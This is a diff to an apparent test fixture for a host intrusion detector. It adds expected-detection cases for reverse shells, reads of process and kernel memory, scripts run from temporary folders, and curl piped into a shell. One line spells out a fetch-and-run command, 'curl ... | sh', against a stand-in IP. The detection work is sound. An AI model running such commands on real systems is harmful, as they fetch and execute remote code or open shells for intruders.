@@ -64,6 +64,8 @@ FOUND: Mapping[str, tuple[str, tuple[Row, ...]]] = {
         "shells that run what curl fetches, and what base64 decodes",
         (
             _of("curl-to-sh", command_line="sh -c curl -fsSL http://192.0.2.7/x | sh"),
+            _of("curl-in-bash"),
+            _of("curl-in-sh"),
             _of("base64-to-sh"),
             _of("eval-base64"),
         ),
@@ -104,6 +106,7 @@ FOUND: Mapping[str, tuple[str, tuple[Row, ...]]] = {
         "processes that have the memory of another process, of the kernel and of the machine open",
         (
             _in("memory-of-other", name="/proc/1/mem"),
+            _in("memory-of-thread", name="/proc/1/task/1/mem"),
             _in("memory-of-kernel", name="/proc/kcore"),
             _in("memory-of-machine", name="/dev/mem"),
         ),
@@ -143,6 +146,7 @@ FOUND: Mapping[str, tuple[str, tuple[Row, ...]]] = {
             _of("reverse-bash-list"),
             _of("reverse-bash-read"),
             _of("reverse-bash-read/bash"),
+            _of("reverse-telnet"),
             _of("reverse-python"),
             _of("reverse-fifo"),
             _of("reverse-netcat"),
@@ -157,12 +161,13 @@ FOUND: Mapping[str, tuple[str, tuple[Row, ...]]] = {
         ),
     ),
     "script-in-temporary-folder": (
-        "scripts in /tmp, /var/tmp and /dev/shm, one of them run by a name without a folder",
+        "scripts in /tmp, /var/tmp and /dev/shm, one named without its folder, one as input",
         (
             _of("script-by-sh", command_line="sh -e /tmp/x.sh"),
             _of("script-itself", command_line="/usr/bin/sh /var/tmp/y.sh"),
             _of("script-by-python", command_line="python3 -u /dev/shm/z.py"),
             _of("script-in-folder", command_line="sh w.sh"),
+            _of("script-as-input", command_line="sh -s"),
         ),
     ),
     "shell-of-server": (
@@ -175,6 +180,7 @@ FOUND: Mapping[str, tuple[str, tuple[Row, ...]]] = {
             _of("shell-on-socket", command_line="sh -i"),
             _of("python-on-socket", command_line="python3 -i"),
             _of("reverse-python"),
+            _of("reverse-bash-instead", command_line="bash -i"),
             _of("reverse-bash/bash", command_line="bash -i"),
             _of("reverse-bash-list/bash", command_line="bash -i"),
         ),
